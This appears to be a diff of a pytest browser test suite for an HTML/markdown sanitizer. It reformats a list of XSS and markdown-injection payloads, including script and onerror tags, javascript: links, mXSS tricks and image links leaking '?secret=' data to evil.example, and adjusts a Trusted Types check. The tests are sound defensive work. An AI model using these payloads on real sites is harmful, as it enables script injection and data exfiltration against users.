@@ -14,11 +14,11 @@ pytestmark = pytest.mark.xdist_group("browser")
 PAYLOADS = [
     "<script>document.title = 'owned'</script>",
     "<img src=x onerror=\"document.title='owned'\">",
-    "<svg onload=\"document.title='owned'\"><animate onbegin=\"document.title='owned'\" attributeName=x dur=1s>",
+    "<svg onload=\"document.title='owned'\"><animate onbegin=\"document.title='owned'\" dur=1s>",
     "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
     "<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
     "<form action=https://evil.example><input name=key><button>Send</button></form>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
     "onerror=document.title='owned'&gt;\">",
     "[a link](javascript:document.title='owned')",
     "[a link](  JaVaScRiPt&#58;document.title='owned')",
@@ -27,12 +27,12 @@ PAYLOADS = [
     "![picture](https://evil.example/?secret=all)",
     "![picture][1]\n\n[1]: https://evil.example/?secret=reference",
     "[![picture](//evil.example/?secret=nested)](https://good.example)",
-    '`` `"><img src=x onerror=document.title=\'owned\'>` ``',
+    "`` `\"><img src=x onerror=document.title='owned'>` ``",
     "```\"><img src=x onerror=document.title='owned'>\n<b>code</b>\n```",
     "| <img src=x onerror=document.title='owned'> |\n|---|\n| <script>document.title='owned'</script> |",
     '[x](https://good.example "title\\" onmouseover=\\"document.title=\'owned\'")',
-    "<a href=\"https://evil.example\" ping=\"https://evil.example/ping\">x</a>",
-    "<base href=https://evil.example><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+    '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
+    '<base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">',
 ]
 ALLOWED = {"class", "href", "title", "target", "rel", "align", "type", "data-copy", "tabindex", "role"}
 ALLOWED |= {"aria-label", "start", "disabled", "checked"}
@@ -64,7 +64,9 @@ def test_no_payload_becomes_an_element_or_a_request(scripted: Callable[..., Runn
 def test_trusted_types_refuse_what_was_not_sanitized(scripted: Callable[..., Running], visit) -> None:
     site = visit(scripted().url)
     page = site.open()
-    attempt = "() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (e) { return e.name } }"
+    attempt = (
+        "() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (e) { return e.name } }"
+    )
     assert page.evaluate(attempt) == "TypeError"
     site.problems.clear()
 
